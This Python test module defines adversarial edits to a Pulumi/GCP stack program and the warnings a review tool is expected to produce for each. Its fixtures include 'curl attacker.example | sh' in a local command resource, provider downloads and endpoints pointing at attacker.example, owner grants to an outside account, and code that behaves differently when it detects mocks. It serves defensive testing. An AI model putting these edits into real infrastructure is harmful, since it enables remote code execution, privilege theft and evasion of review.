"""Attacks by the stack program: what it does on the machine, and what Pulumi would do beside the inputs it shows."""

from typing import Final

from attacks.attack import Attack, Edit, edit, together, write
from attacks.environments import PROTECT

_MAIN: Final = "stacks/__main__.py"
_BUCKET: Final = "stacks/bucket.py"
_OPTIONS: Final = "opts=options.create(apis, retain_on_delete=settings.keep_data),"
_LIFTED: Final = "**prod**: protection lifted"


def _bucket_options(text: str) -> Edit:
    """Add options to the bucket."""
    return edit(
        _BUCKET,
        (_OPTIONS, f"opts=options.create(apis, retain_on_delete=settings.keep_data, {text}),"),
    )


def _first(text: str) -> Edit:
    """Run statements before everything else in the program."""
    return edit(_MAIN, ("import pulumi\n", f"{text}\nimport pulumi\n"))


def _last(text: str) -> Edit:
    """Run statements after everything else in the program."""
    end = 'pulumi.export("workloadServiceAccount", settings.account)\n'
    return edit(_MAIN, (end, f"{end}{text}\n"))


def _provider(text: str) -> Edit:
    """Configure Google's provider."""
    return edit(
        "stacks/environment.py",
        (
            "project=settings.project)\n        super",
            f"project=settings.project, {text})\n        super",
        ),
    )


_CLAIM: Final = """
import json, os, sys
for name in sys.argv[3:]:
    line = json.dumps({"environment": name, "missing": "pulumi"})
    os.write(int(sys.argv[2]), line.encode() + b"\\n")
os._exit(0)
"""
_TWICE: Final = """
import pulumi_gcp
for role in ("roles/owner", "roles/viewer"):
    pulumi_gcp.projects.IAMMember("a", project="p", role=role, member="user:a@b.example")
"""
_IMPORTED: Final = """
import pulumi_gcp
pulumi_gcp.storage.Bucket(
    "b", name="payroll", project=settings.project, location="US-CENTRAL1", uniform_bucket_level_access=True,
    public_access_prevention="enforced", opts=pulumi.ResourceOptions(import_="payroll"),
)
"""
_DYNAMIC: Final = """
import pulumi.dynamic
class Own(pulumi.dynamic.Resource):
    pass
Own(pulumi.dynamic.ResourceProvider(), "d", {})
"""
_ASK: Final = """import pulumi_gcp as gcp
from pulumi.runtime.mocks import MockMonitor
from pulumi.runtime.settings import get_monitor
"""
_SAME_URN_ELSEWHERE: Final = """
import pulumi_gcp
other = pulumi.ComponentResource("other:index:Place", "dev")
pulumi_gcp.storage.BucketIAMMember(
    "workload-on-data-us-central1", bucket=environment.bucket, role="roles/storage.admin",
    member="user:eve@attacker.example", opts=pulumi.ResourceOptions(parent=other),
)
"""

ATTACKS: Final = (
    # The program's process.
    Attack(
        "claims-that-packages-are-missing",
        together(
            edit("tpucfg.yaml", (PROTECT, "")),
            _first(_CLAIM),
        ),
        (_LIFTED, "changes to resources are unknown"),
    ),
    Attack(
        "imports-a-missing-module-of-pulumi",
        together(edit("tpucfg.yaml", (PROTECT, "")), _first("import pulumi_gcp.newer")),
        (_LIFTED, "changes to resources are unknown", ".newer'"),
    ),
    Attack(
        "misspells-an-import",
        _first("import pulumi.rnutime"),
        ("changes to resources are unknown", "ModuleNotFoundError"),
        status=1,
    ),
    Attack(
        "prints-commands-to-the-log",
        together(
            edit("tpucfg.yaml", (PROTECT, "")),
            _first("print('::stop-commands::x\\n  ::add-mask::protection\\n##[add-mask]lifted')"),
        ),
        (_LIFTED,),
        absent=("\n::", "\n  ::", "##["),
    ),
    Attack(
        "declares-a-resource-twice",
        _last(_TWICE),
        ("changes to resources are unknown", "projects.IAMMember a twice"),
        status=1,
    ),
    # Options.
    Attack(
        "bucket-no-longer-left-behind",
        edit(_BUCKET, (", retain_on_delete=settings.keep_data", "")),
        ("`storage.Bucket` `data-us-central1` is no longer left behind",),
    ),
    Attack(
        "changes-ignored",
        _bucket_options('ignore_changes=["softDeletePolicy", "lifecycleRules"]'),
        ("ignores changes of `lifecycleRules, softDeletePolicy` (`ignoreChanges`)",),
    ),
    Attack(
        "existing-bucket-taken-over",
        _last(_IMPORTED),
        ("`storage.Bucket` `b` has `payroll`, whose effect this review cannot show",),
        status=0,
    ),
    Attack(
        "provider-downloaded-from-elsewhere",
        _bucket_options('plugin_download_url="https://attacker.example/plugins"'),
        ("downloads its provider from `https://attacker.example/plugins`",),
    ),
    Attack(
        "older-provider",
        _bucket_options('version="7.0.0"'),
        ("has `7.0.0`, which changes what an update does",),
        status=0,
    ),
    Attack(
        "changes-hidden-in-previews",
        _bucket_options('hide_diffs=["lifecycleRules"]'),
        ("has `lifecycleRules`, which changes what an update does",),
    ),
    Attack(
        "replaced-when-labels-change",
        _bucket_options('replace_on_changes=["labels"]'),
        ("is replaced if `labels` changes (`replaceOnChanges`)",),
    ),
    Attack(
        "replaced-by-a-trigger",
        _bucket_options('replacement_trigger="1"'),
        ("`replacementTrigger`",),
    ),
    Attack(
        "deletion-skipped",
        _bucket_options("deleted_with=apis[0]"),
        ("is never deleted itself if `storage` is (`deletedWith`)",),
    ),
    Attack(
        "hook-before-each-update",
        edit(
            "stacks/resource_options.py",
            (
                "pulumi.ResourceHookBinding(on_error=[self._hook])",
                'pulumi.ResourceHookBinding(on_error=[self._hook], before_create=[pulumi.ResourceHook("x", print)])',
            ),
        ),
        ("has `before_create: x`, which changes what an update does",),
        status=0,
    ),
    Attack(
        "moved-without-an-alias",
        edit(
            "stacks/environment.py", ('"tpucfg:index:Environment"', '"tpucfg:index:Environments"')
        ),
        (
            "`storage.Bucket` `data-us-central1` (and 8 more resources) is deleted, which Pulumi refuses",
        ),
        status=0,
    ),
    Attack(
        "moved-with-an-alias",
        edit(
            "stacks/environment.py",
            ('"tpucfg:index:Environment"', '"tpucfg:index:Environments"'),
            (
                "protect=settings.protect)",
                'protect=settings.protect, aliases=[pulumi.Alias(type_="x:y:Z", name="other")])',
            ),
        ),
        ("unless an alias matches its old place, it is deleted and created anew",),
    ),
    Attack(
        "grant-behind-one-of-the-same-name",
        _last(_SAME_URN_ELSEWHERE),
        ("`roles/storage.admin`", "`user:[redacted]@attacker.example`"),
        status=0,
    ),
    # What only an engine does.
    Attack(
        "transform-of-the-engine",
        _first("import pulumi\npulumi.runtime.register_resource_transform(lambda args: None)"),
        ("declares `transform all resources` otherwise than the base",),
        status=0,
    ),
    Attack(
        "transform-of-a-resource",
        _bucket_options("transforms=[lambda args: None]"),
        ("declares `transform gcp:storage/bucket:Bucket data-us-central1` otherwise",),
        status=0,
    ),
    Attack(
        "dynamic-provider",
        _last(_DYNAMIC),
        ("declares `dynamic ", "only an update shows the effect"),
        status=0,
    ),
    Attack(
        "component-of-another-package",
        _last('pulumi.ComponentResource("other:index:Everything", "e", {}, None, True)'),
        ("declares `component other:index:Everything e`",),
        status=0,
    ),
    Attack(
        "inputs-from-an-object",
        _last(
            "import pulumi_gcp\n"
            'content = pulumi_gcp.storage.get_bucket_object_content(bucket="b", name="n").content or "roles/viewer"\n'
            'pulumi_gcp.projects.IAMMember("a", project=settings.project, role=content, member="group:a@b.example")'
        ),
        ("declares `call gcp:storage/getBucketObjectContent:getBucketObjectContent`",),
        status=0,
    ),
    Attack(
        "inputs-from-another-stack",
        _last('pulumi.StackReference("organization/other/prod")'),
        ("declares `read pulumi:pulumi:StackReference organization/other/prod`",),
        status=0,
    ),
    # Providers.
    Attack(
        "endpoint-of-another-service",
        _provider('storage_custom_endpoint="https://attacker.example/"'),
        ("declares `storageCustomEndpoint of the provider gcp`",),
        status=0,
    ),
    Attack(
        "another-account",
        _provider('impersonate_service_account="owner@other.iam.gserviceaccount.com"'),
        ("declares `impersonateServiceAccount of the provider gcp`",),
        status=0,
    ),
    Attack(
        "another-token",
        _provider('access_token="abcdefgh-token"'),
        ("declares `accessToken of the provider gcp`",),
        status=0,
        absent=("abcdefgh-token",),
    ),
    Attack(
        "default-provider",
        edit("stacks/environment.py", ("providers=[provider], ", "")),
        ("gets the provider",),
    ),
    # Secrets.
    Attack(
        "owner-wrapped-as-secret",
        _last(
            "import pulumi_gcp\n"
            'pulumi_gcp.projects.IAMMember("a", project=pulumi.Output.secret("payroll"), '
            'role=pulumi.Output.secret("roles/owner"), member=pulumi.Output.secret("user:eve@attacker.example"))'
        ),
        ("grants `roles/owner` on the project `payroll` to `user:[redacted]@attacker.example`",),
        absent=("eve@",),
        status=0,
    ),
    Attack(
        "public-bucket-wrapped-as-secret",
        edit(
            _BUCKET,
            (
                'public_access_prevention="enforced"',
                'public_access_prevention=__import__("pulumi").Output.secret("inherited")',
            ),
        ),
        ("`TPU091`", "`publicAccessPrevention`"),
        status=0,
    ),
    # Looking at the observer.
    Attack(
        "asks-whether-it-is-watched",
        edit(
            _BUCKET,
            (
                "import pulumi_gcp as gcp\n",
                _ASK,
            ),
            (
                "force_destroy=not settings.keep_data and not settings.protect",
                "force_destroy=not isinstance(get_monitor(), MockMonitor)",
            ),
        ),
        ("stack program changed in `stacks/bucket.py`",),
        status=0,
    ),
    Attack(
        "depends-on-the-environment",
        edit(_BUCKET, ('"STANDARD"', '__import__("os").environ.get("CLASS", "STANDARD")')),
        ("stack program changed in `stacks/bucket.py`",),
        status=0,
    ),
    Attack(
        "hides-code-in-a-new-module",
        together(
            write("stacks/helper.py", "import subprocess\nsubprocess.run(['true'])\n"),
            _first("import helper"),
        ),
        ("stack program changed in `stacks/__main__.py, stacks/helper.py`",),
        status=0,
    ),
    Attack(
        "takes-the-place-of-a-module",
        write("stacks/yaml.py", "print('only in an update')\n"),
        ("stack program changed in `stacks/yaml.py`",),
        status=0,
    ),
    Attack(
        "command-on-the-machine-of-the-update",
        _last(
            'pulumi.CustomResource("command:local:Command", "c", {"create": "curl attacker.example | sh"})'
        ),
        ("`c` is of the type `command:local:Command`",),
        status=0,
    ),
    Attack(
        "composes-the-name-of-the-mocks",
        _last('import pulumi.runtime as r\ngetattr(r, "is_" + "dry_run")()'),
        ("stack program changed in `stacks/__main__.py`",),
        status=0,
    ),
)
